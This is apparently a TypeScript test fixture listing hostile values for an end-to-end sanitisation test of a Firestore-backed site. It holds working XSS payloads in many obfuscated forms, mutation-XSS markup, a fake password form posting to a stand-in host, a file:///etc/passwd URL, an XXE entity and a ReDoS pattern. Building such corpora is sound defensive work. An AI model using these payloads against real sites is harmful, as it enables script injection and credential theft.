/**
 * XSS vectors and other hostile values that an attacker would store in Firestore. A vector that runs calls `canary()`,
 * and one that loads something does so from the canary's host; e2e/faults/hostileContent.spec.ts watches both. One
 * corpus, hence over 200 lines.
 */

export const canaryHost = 'canary.example';

const run = 'canary()';
const host = `https://${canaryHost}`;
/** A picture of an allowed host. */
const picture = 'https://cdn.example.org/a.jpg';

export type HostileClass = { name: string; vectors: readonly string[] };

/** URLs that run code or lead to a dangerous place, in every spelling. */
export const hostileUrls: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\u0000script:${run}`,
  `javascript\t:${run}`,
  `javascript://${canaryHost}/%0a${run}`,
  `javascript:/*--></title></style></textarea></script>*/${run}`,
  `javascript\uff1a${run}`,
  `jаvascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
  `DATA:text/html;charset=utf-7,+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `blob:${host}/1`,
  'file:///etc/passwd',
  'ftp://canary.example/a',
  'tel:javascript:canary()',
  `//${canaryHost}/a`,
  `\\\\${canaryHost}\\a`,
  `/\\${canaryHost}/a`,
  `https://www.example.org@${canaryHost}/a`,
  `https://${canaryHost}/"onerror="${run}`,
  `https://${canaryHost}/><script>${run}</script>`,
  `https://${canaryHost}/a) url(${host}/b`,
  `https://${canaryHost}/a 1x, ${host}/b 2x`,
  'https://саnаry.example/a',
];

/** Hostile titles, names and places. */
export const hostileTexts: readonly string[] = [
  `</script><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `<!--<script></script>--><img src=x onerror=${run}>`,
  `]]><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea></style></noscript></template><img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `" autofocus onfocus="${run}" x="`,
  `\\"]);${run};//`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `\u2028${run}\u2029`,
  `1:I["evil",["${host}/a.js"],"default"]\n0:["$","script",null,{"src":"${host}/a.js"}]`,
  '$undefined',
  `\${${run}}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `<\u0000script>${run}</\u0000script>`,
  `Վերնագիր\u0000\u0001\u0008\u000b\u001f\u007f`,
  '\u202eնրուղ\u202d լուր \u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c',
  `Լուր${'\u0301'.repeat(300)}`,
  'կես \ud83d զույգ \udc00',
  '\ufffe\uffff',
  '{"@type":"NewsArticle","@id":"javascript:canary()"}',
  '__proto__',
  'constructor',
  `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${host}/a">]><a>&b;</a>`,
  'ա'.repeat(20_000),
  '((((((((((((((((((((((((((((((a)+)+)+)+)+)+)+)+)+)+',
];

/** Hostile ids that Firestore allows. */
export const hostileIds: readonly string[] = [
  `"><img src=x onerror=${run}>`,
  `'onmouseover='${run}`,
  '%2e%2e%2fadmin',
  'a%5c..',
  '?category=x#y',
  'a&b=c;d',
  '\u202eնր',
  'constructor',
  "');--",
  'feed.xml',
];

/** Bodies of items, by kind of attack; the hostile URLs are in every attribute that takes a URL. */
export const hostileClasses: readonly HostileClass[] = [
  {
    name: 'script',
    vectors: [
      `<script>${run}</script>`,
      `<scr<script>ipt>${run}</scr</script>ipt>`,
      `<<script>${run}//<</script>`,
      `<script type=module>import "${host}/a.js"</script>`,
      `<script><!--\n${run}\n--></script>`,
      `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
      `<sc\u0000ript>${run}</sc\u0000ript>`,
    ],
  },
  {
    name: 'event handlers',
    vectors: [
      `<img src=x onerror=${run} onloadstart=${run}>`,
      `<svg onload=${run} onfocusin=${run}>`,
      `<body onload=${run} onpageshow=${run} onscroll=${run}>`,
      `<details open ontoggle=${run}>`,
      `<input autofocus onfocus=${run} onblur=${run}>`,
      `<p tabindex=0 autofocus onfocus=${run} onpointerenter=${run} onsecuritypolicyviolation=${run}>`,
      `<p style="animation:x 1s" onanimationstart=${run} ontransitionrun=${run}>`,
      `<img src=x OnErRoR="${run}">`,
      `<img src=x onerror=&#99;anary()>`,
      `<img src="x" alt="&quot; onerror=&quot;${run}">`,
      `<img """><img src=x onerror=${run}>">`,
      `<p title="a>" onclick="${run}">ա</p>`,
    ],
  },
  {
    name: 'URLs',
    vectors: hostileUrls.map((url) => {
      const value = url.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
      return `<p><a href="${value}">ա</a><img src="${value}" srcset="${value} 1x" longdesc="${value}"><q cite="${value}">ա</q></p>`;
    }),
  },
  {
    name: 'URLs written with entities',
    vectors: [
      `<a href="&#106;avascript:${run}">ա</a>`,
      `<a href="java&Tab;script&colon;${run}">ա</a>`,
      `<a href="java&NewLine;script:${run}">ա</a>`,
      `<a href="javas&#x63;ript:${run}" href="/">ա</a>`,
    ],
  },
  {
    name: 'styles',
    vectors: [
      `<style>@import "${host}/a.css";</style>`,
      `<style><!--</style><img src=x onerror=${run}>--></style>`,
      `<p style="background:url(${host}/a)">ա</p>`,
      `<p style="b\\61 ckground:u\\72 l(${host}/a)">ա</p>`,
      `<p style="position:fixed;inset:0;z-index:9999;background:red">ա</p>`,
      `<link rel=stylesheet href=${host}/a.css>`,
    ],
  },
  {
    name: 'markup that changes when it is parsed again',
    vectors: [
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
      `<svg><p><style><!--</style><img src=x onerror=${run}>--></style>`,
      `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
      `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
      `<title><p title="</title><img src=x onerror=${run}>">`,
      `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
      `<select><option><style></option></select><img src=x onerror=${run}></style>`,
      `<!--><img src=x onerror=${run}>-->`,
      `<!---><img src=x onerror=${run}>-->`,
      `</ x><img src=x onerror=${run}>`,
      `<svg><![CDATA[</svg><img src=x onerror=${run}>]]></svg>`,
      `<a><table><a href="javascript:${run}">ա</a></table></a>`,
      `<plaintext><script>${run}</script>`,
      `<p title='<b title="</p><img src=x onerror=${run}>">'>ա</p>`,
      `&lt;script&gt;${run}&lt;/script&gt;&amp;lt;img src=x onerror=${run}&amp;gt;`,
    ],
  },
  {
    name: 'templates and shadow roots',
    vectors: [
      `<template><script>${run}</script></template>`,
      `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
      `<media-controller><media-play-button onclick=${run}></media-play-button></media-controller>`,
    ],
  },
  {
    name: 'frames and plug-ins',
    vectors: [
      `<iframe src="javascript:${run}"></iframe>`,
      `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
      `<object data="javascript:${run}"></object>`,
    ],
  },
  {
    name: 'forms',
    vectors: [
      `<form action="${host}/post" method=post><input name=password type=password autofocus><button>ա</button></form>`,
      `<button formaction="javascript:${run}">ա</button>`,
    ],
  },
  {
    name: 'document settings',
    vectors: [`<meta http-equiv=refresh content="0;url=${host}">`, `<base href="${host}/">`],
  },
  {
    name: 'names that shadow the page',
    vectors: [
      `<a id=location></a><a id=location name=href href="${host}"></a>`,
      `<a id=__next_f href="cid:${run}"></a><a id=__NEXT_DATA__></a><p id=main class="x" slot="media">ա</p>`,
      `<p id="site-menu" popover>ա</p><p part=a exportparts=a itemscope itemprop=url itemid="${host}">ա</p>`,
    ],
  },
  {
    name: 'SVG',
    vectors: [
      `<svg onload=${run}></svg>`,
      `<svg><script>${run}</script></svg>`,
      `<svg><a xlink:href="javascript:${run}"><text y=20>ա</text></a></svg>`,
      `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>ա</text></a></svg>`,
      `<svg><use href="${host}/a.svg#b"/></svg>`,
      `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
    ],
  },
  {
    name: 'media',
    vectors: [
      `<video src="${host}/a.mp4" poster="${host}/a.jpg" autoplay></video>`,
      `<video><source onerror=${run} src="${host}/a.mp4"><track default src="${host}/a.vtt"></video>`,
      `<img src="${host}/pixel.gif" width=1 height=1 loading=eager crossorigin=use-credentials>`,
    ],
  },
  {
    name: 'depth and size',
    vectors: [
      `${'<b>'.repeat(1500)}ա`,
      `${'<blockquote>'.repeat(500)}<script>${run}</script>`,
      `<p ${Array.from({ length: 3000 }, (_, index) => `a${index}=1`).join(' ')} onclick=${run}>ա</p>`,
    ],
  },
  {
    name: 'attributes of what is allowed',
    vectors: [
      `<img src="${picture}" onerror="${run}" onload=${run} style="x">`,
      `<img src="${picture}" alt="&quot; onerror=&quot;${run}">`,
      `<img src="${picture}" srcset="${host}/pixel.gif 1x">`,
      `<img src="${picture}" width="1&quot; onload=&quot;${run}" height=1 class=x id=main>`,
      `<img src="https://cdn.example.org@${canaryHost}/pixel.gif">`,
      `<img src="https://cdn.example.org.${canaryHost}/pixel.gif">`,
      `<a href="/a" target="_blank" ping="${host}" style="position:fixed">ա</a>`,
      '<a name="main" id="site-menu" class="x">ա</a>',
      `<abbr title="&quot;><script>${run}</script>">ա</abbr>`,
      `<blockquote cite="javascript:${run}">ա</blockquote>`,
    ],
  },
  { name: 'texts', vectors: hostileTexts },
];

/** Every vector that may be in a body, and the class it is of. */
export const hostileVectors: readonly (readonly [name: string, vector: string])[] = hostileClasses.flatMap(
  ({ name, vectors }) => vectors.map((vector) => [name, vector] as const),
);
